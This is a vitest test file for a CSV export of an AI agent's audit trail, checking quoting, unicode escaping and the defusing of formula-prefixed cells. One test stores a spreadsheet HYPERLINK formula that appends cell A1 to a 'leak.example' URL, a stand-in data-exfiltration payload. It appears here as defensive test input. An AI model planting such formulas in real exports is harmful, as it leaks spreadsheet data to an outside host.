import { expect, test } from "vitest";
import { listActions } from "@/lib/server/policy/audit";
import { createUser, installForTests } from "@/tests/support/installation";
import { storeActions } from "@/tests/support/stored-actions";
import { auditTable } from "./audit-table";
import { csvLine } from "./csv";

installForTests();

test.each([
  [["plain", "ä, ö", 'say "so"', "two\nlines"], 'plain,"ä, ö","say ""so""","two\nlines"\r\n'],
  [["=1+1", "+1", "-1", "@x", "\tx"], "'=1+1,'+1,'-1,'@x,'\tx\r\n"],
  [[" =1+1", "＝1", "\r=1"], "' =1+1,'＝1,\\u{D}=1\r\n"],
  [["a\u202Eb", "\u200B=1"], "a\\u{202E}b,\\u{200B}=1\r\n"],
  [["", ""], ",\r\n"],
])("a line of %o", (cells, line) => {
  expect(csvLine(cells)).toBe(line);
});

/** Reads a table as a spreadsheet does. */
function parse(csv: string): string[][] {
  const cells = csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g);
  const lines: string[][] = [[]];
  for (const [, quoted, plain = "", end] of cells) {
    lines.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === "\r\n") lines.push([]);
  }
  return lines.slice(0, -1);
}

test("the whole trail as a table", async () => {
  const userId = await createUser();
  const formula = '=HYPERLINK("https://leak.example/?"&A1,"Click")';
  await storeActions(userId, formula, [
    {
      tool: "BITBUCKET_CREATE_BRANCH",
      toolClass: "change",
      arguments: { workspace: "acme", repo_slug: "api", name: 'a,"b"\nc' },
      accountName: "+jane",
      decision: "denied",
      reason: "-1",
      state: { status: "denied", reason: "-1" },
    },
    ...Array.from({ length: 249 }, () => ({})),
  ]);
  async function* pages() {
    const first = await listActions(userId);
    yield first.records;
    const cursor = first.nextCursor ?? "";
    yield (await listActions(userId, undefined, { cursor })).records;
  }
  const response = auditTable(pages(), "2026-11-23");
  expect(response.headers.get("content-type")).toMatch(/^text\/csv; .*charset=utf-8$/);
  expect(response.headers.get("content-disposition")).toBe(
    'attachment; filename="branchline-actions-2026-11-23.csv"',
  );
  const bytes = new Uint8Array(await response.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const [heading = [], ...lines] = parse(new TextDecoder().decode(bytes));
  expect(lines).toHaveLength(250);
  expect(new Set(lines.map(({ length }) => length))).toEqual(new Set([heading.length]));
  expect(lines.flat().filter((cell) => /^\s*[=+\-@]/.test(cell))).toEqual([]);
  const [denied] = lines
    .map((line) => Object.fromEntries(heading.map((name, index) => [name, line[index]])))
    .filter(({ kind }) => kind === "change");
  expect(denied).toMatchObject({
    chat: `'${formula}`,
    effect: 'Create branch a,"b"\nc in acme/api',
    tool: "BITBUCKET_CREATE_BRANCH",
    account: "'+jane",
    decision: "denied",
    decided_by: "Jane",
    reason: "'-1",
    outcome: "denied",
    arguments: JSON.stringify({ name: 'a,"b"\nc', repo_slug: "api", workspace: "acme" }),
  });
});
